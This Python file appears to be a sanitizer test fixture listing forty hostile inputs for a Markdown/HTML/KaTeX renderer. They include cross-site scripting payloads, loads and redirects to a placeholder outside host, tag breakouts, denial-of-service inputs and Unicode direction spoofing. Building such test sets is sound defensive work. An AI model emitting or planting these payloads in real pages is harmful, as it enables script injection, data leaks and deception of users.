"""Forty texts that a model could write to have something executed, loaded or shown falsely.

Each tries to call `pwned()`, to load something from elsewhere, or to look like a part of the page.
"""

RUN = "window.pwned=1"
ELSEWHERE = "http://elsewhere.invalid"
RTL, ISOLATE, POP = "\u202e", "\u2066", "\u202c"

HOSTILE_TEXTS = {
    # Elements and their handlers
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": f'<script src="{ELSEWHERE}/a.js"></script>',
    "an image's handler": f'<img src=x onerror="{RUN}">',
    "an image's handler without quotes": f"<img/src=x/onerror={RUN}>",
    "a handler that plays": f'<video><source onerror="{RUN}"></video>',
    "a handler that toggles": f'<details open ontoggle="{RUN}">x</details>',
    "a handler that takes the focus": f'<input autofocus onfocus="{RUN}">',
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "an object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "a form elsewhere": f'<form action="{ELSEWHERE}"><button>Accept</button></form>',
    "another base": f'<base href="{ELSEWHERE}/">',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "a template": f"<template><script>{RUN}</script></template><math><mtext><script>{RUN}",
    # SVG and MathML
    "an SVG that loads": f'<svg onload="{RUN}"></svg>',
    "an SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "an SVG that animates": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "a link in MathML": f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    # CSS
    "a style": f"<style>@import '{ELSEWHERE}/a.css'; body {{ display: none }}</style>",
    "an inline style": f'<b style="background:url({ELSEWHERE}/a.png);position:fixed">x</b>',
    # Unclosed
    "unclosed tags": "<div><section><table><tr><td><b><!-- ",
    "an unclosed attribute": f'<a href="x" title="</article></main><script>{RUN}</script>',
    "closing what is ours": f"</pre></div></article></main></body><script>{RUN}</script>",
    "a closed text area": f"</textarea></select></template><img src=x onerror={RUN}>",
    # Addresses
    "a link that runs": f'<a href="javascript:{RUN}">the solution</a>',
    "a Markdown link that runs": f"[the solution](javascript:{RUN})",
    "a Markdown link with entities": f"[x](&#106;avascript&colon;{RUN}) [y](java\tscript:{RUN})",
    "a Markdown link to data": f"[x](data:text/html,<script>{RUN}</script>)",
    "a Markdown image": f'![x]({ELSEWHERE}/a.png "t") ![y](x" onerror="{RUN})',
    "a Markdown reference": f"[x][1]\n\n[1]: javascript:{RUN}\n<javascript:{RUN}>",
    "a link whose title breaks out": f"[x]({ELSEWHERE} '\" onmouseover=\"{RUN}')",
    # Markdown that is meant to be slow, or to hide
    "HTML in a Markdown table": f"| a | b |\n| - | - |\n| <img src=x onerror={RUN}> | `</td>` |",
    "brackets without end": "[" * 3_000 + "](" * 3_000,
    "emphasis without end": "*a_" * 3_000 + "\n> " * 500,
    # KaTeX
    "a formula with a link": rf"$\href{{javascript:{RUN}}}{{x}}$ and \(\url{{javascript:{RUN}}}\)",
    "a formula with HTML": rf"$\htmlData{{onclick={RUN}}}{{x}} \htmlStyle{{color:red}}{{y}}$",
    "a formula with an image": rf"\[\includegraphics{{{ELSEWHERE}/a.png}}\] $<img src=x>$",
    "a formula that grows": r"$\def\a{xx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\c\c\c\c$" * 50,
    "a formula that is huge": r"$\rule{99999em}{99999em}\kern{-9999em}$ \boxed{<img src=x>}",
    # Unicode
    "directions turned round": f"{RTL}tpircs{ISOLATE}<script>{RUN}</script>{POP} is {RTL}nedlog",
    "signs nobody sees": "a\u200b\u200d\ufeff\u2028\u2029\x0b\x1b[31mb" + "z\u0300\u0301" * 90,
}
assert len(HOSTILE_TEXTS) == 40
